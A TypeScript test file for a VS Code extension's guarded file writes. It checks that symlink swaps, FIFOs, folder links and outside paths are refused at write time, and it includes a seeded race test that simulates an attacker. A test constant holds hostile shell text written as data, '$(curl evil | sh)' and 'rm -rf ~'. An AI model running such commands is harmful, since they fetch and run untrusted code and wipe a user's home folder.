// The file behind the guarded scheme (core/guardedFile.ts): what VS Code's save of a `leopold-guarded:` document
// reaches. The guard runs when the write happens, not when the preview was built: a link at the name, a FIFO, a
// folder link in the middle, a real path outside `.leopold/` — each refused at write time with where it points, and
// a property over seeded cases where a swap races the write: whatever happens, the stand-in for ~/.bashrc is
// byte-identical and CHARTER.md, if anything, is a regular file holding exactly the old or the new bytes.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, readdirSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { GuardedFileMissingError, GuardedTargets, readGuarded, statGuarded, UnknownGuardedTargetError, writeGuarded,
} from '../../../src/core/guardedFile';
import { NotRegularFileError, SymlinkRefusedError, WriteOutsideError } from '../../../src/core/writeGuard';
import { rngInt } from '../../support/rng';
import { assertHomeUntouched, homeLayout } from '../../support/homeStandIn';
import { tempDir } from '../../support/tempDir';

const RULE = '\n## Always\n- Never run $(curl evil | sh); `rm -rf ~` > /dev/null\n';

describe('core/guardedFile: the guarded scheme writes through the guard at the moment of the write', function () {
  this.timeout(120_000);
  const tmp = tempDir('leo-gfile-');

  function layout() {
    const l = homeLayout(tmp());
    const charter = join(l.leo, 'CHARTER.md');
    writeFileSync(charter, '# Charter\n');
    return { ...l, charter, target: { file: charter, within: l.leo } };
  }
  const homeUntouched = assertHomeUntouched;

  it('a regular CHARTER.md is read exactly and replaced with the new bytes (the rule as data), its mode kept', async () => {
    const l = layout();
    execFileSync('chmod', ['640', l.charter]);
    assert.equal((await readGuarded(l.target)).toString(), '# Charter\n');
    const real = await writeGuarded(l.target, Buffer.from(`# Charter\n${RULE}`));
    assert.equal(real, join(realpathSync(l.leo), 'CHARTER.md'));
    assert.equal(readFileSync(l.charter, 'utf8'), `# Charter\n${RULE}`);
    assert.equal(lstatSync(l.charter).mode & 0o777, 0o640);
    assert.equal((await statGuarded(l.target)).size, Buffer.byteLength(`# Charter\n${RULE}`));
    homeUntouched(l, 'a plain write');
  });

  it('a link swapped in after the target was registered is refused at write time, naming where it points', async () => {
    const l = layout();
    const targets = new GuardedTargets();
    const token = targets.add(l.target); // the preview is built: CHARTER.md is a regular file now
    rmSync(l.charter);
    symlinkSync(l.bashrc, l.charter); // ... and a link by the time the person presses Apply
    const refused = (e: Error) => e instanceof SymlinkRefusedError && e.pointsTo === realpathSync(l.bashrc) &&
      e.message.includes(realpathSync(l.bashrc)) && e.message.includes('nothing was written');
    await assert.rejects(writeGuarded(targets.get(token), Buffer.from(RULE)), refused);
    await assert.rejects(readGuarded(targets.get(token)), SymlinkRefusedError);
    await assert.rejects(statGuarded(targets.get(token)), SymlinkRefusedError);
    homeUntouched(l, 'a link at the name');
    assert.ok(lstatSync(l.charter).isSymbolicLink(), 'the link itself is left as it is');
  });

  it('a FIFO at the name is refused without being opened (nothing blocks)', async () => {
    const l = layout();
    rmSync(l.charter);
    execFileSync('mkfifo', [l.charter]);
    await assert.rejects(writeGuarded(l.target, Buffer.from(RULE)), NotRegularFileError);
    await assert.rejects(readGuarded(l.target), NotRegularFileError);
    await assert.rejects(statGuarded(l.target), NotRegularFileError);
    assert.ok(lstatSync(l.charter).isFIFO());
  });

  it('a folder link in between (.leopold -> ~) is refused, naming its target', async () => {
    const l = layout();
    const leo2 = join(l.base, 'proj2', '.leopold');
    mkdirSync(join(l.base, 'proj2'));
    symlinkSync(l.home, leo2);
    const t = { file: join(leo2, '.bashrc'), within: join(l.base, 'proj2') };
    await assert.rejects(writeGuarded(t, Buffer.from(RULE)), (e: Error) => e instanceof SymlinkRefusedError && e.path === leo2 &&
      e.pointsTo === realpathSync(l.home));
    homeUntouched(l, 'a folder link in between');
  });

  it('a real path outside the place is refused, and so is a token no one registered', async () => {
    const l = layout();
    await assert.rejects(writeGuarded({ file: l.bashrc, within: l.leo }, Buffer.from(RULE)), WriteOutsideError);
    await assert.rejects(writeGuarded({ file: join(l.leo, '..', '..', 'home', '.bashrc'), within: l.leo }, Buffer.from(RULE)),
      WriteOutsideError);
    assert.throws(() => new GuardedTargets().get('0123abcd'), UnknownGuardedTargetError);
    homeUntouched(l, 'outside');
  });

  it('a missing CHARTER.md is said missing on read, and created by a write', async () => {
    const l = layout();
    rmSync(l.charter);
    await assert.rejects(readGuarded(l.target), GuardedFileMissingError);
    await assert.rejects(statGuarded(l.target), GuardedFileMissingError);
    await writeGuarded(l.target, Buffer.from(RULE));
    assert.equal(readFileSync(l.charter, 'utf8'), RULE);
  });

  it('tokens are fresh and folders on the way are folders of the target only', () => {
    const targets = new GuardedTargets();
    const a = targets.add({ file: '/p/.leopold/CHARTER.md', within: '/p/.leopold', shownAs: '/r/p/.leopold/CHARTER.md' });
    const b = targets.add({ file: '/p/.leopold/CHARTER.md', within: '/p/.leopold', shownAs: '/r/p/.leopold/CHARTER.md' });
    assert.notEqual(a, b);
    assert.equal(targets.isFolderOf(a, '/r/p/.leopold'), true);
    assert.equal(targets.isFolderOf(a, '/r/p'), true);
    assert.equal(targets.isFolderOf(a, '/'), true);
    assert.equal(targets.isFolderOf(a, '/r/p/.leopold/CHARTER.md'), false, 'the target itself is a file');
    assert.equal(targets.isFolderOf(a, '/r/p/.leo'), false, 'a name prefix is not a folder');
    assert.equal(targets.isFolderOf('nope', '/r/p'), false);
  });

  it('property: a swap racing the write never reaches the stand-in; CHARTER.md ends old, new, or the link (seeded)', async () => {
    const CASES = 300;
    for (let seed = 1; seed <= CASES; seed++) {
      const r = rngInt(seed);
      const l = layout();
      const old = readFileSync(l.charter);
      const next = Buffer.from(`# Charter\n${RULE}`.repeat(1 + r(50)));
      // The attacker's move, at a random point of the write: the name, or the .leopold folder, becomes a link.
      const folderSwap = r(4) === 0;
      const swap = () => {
        if (folderSwap) {
          renameSync(l.leo, `${l.leo}.moved`);
          symlinkSync(l.home, l.leo);
        } else {
          rmSync(l.charter, { force: true });
          symlinkSync(l.bashrc, l.charter);
        }
      };
      const delay = r(6);
      const racer = (async () => {
        for (let i = 0; i < delay; i++) await new Promise<void>((res) => setImmediate(res));
        swap();
      })();
      const outcome = await writeGuarded(l.target, next).then(() => 'written', (e: Error) => e.name || e.constructor.name);
      await racer;
      homeUntouched(l, `seed ${seed} (${folderSwap ? 'folder' : 'name'} swap after ${delay} turns, ${outcome})`);
      if (!folderSwap) {
        const st = lstatSync(l.charter);
        // Either the write landed first and the swap replaced it, or the link is there and was refused.
        assert.ok(st.isSymbolicLink(), `seed ${seed}: the swap's link is what is at the name`);
      } else {
        const moved = readFileSync(join(`${l.leo}.moved`, 'CHARTER.md'));
        assert.ok(moved.equals(old) || moved.equals(next), `seed ${seed}: CHARTER.md holds the old or the new bytes, whole`);
      }
      assert.deepEqual(readdirSync(folderSwap ? `${l.leo}.moved` : l.leo).filter((n) => n.includes('.tmp-')), [],
        `seed ${seed}: no temp file left behind`);
    }
  });
});
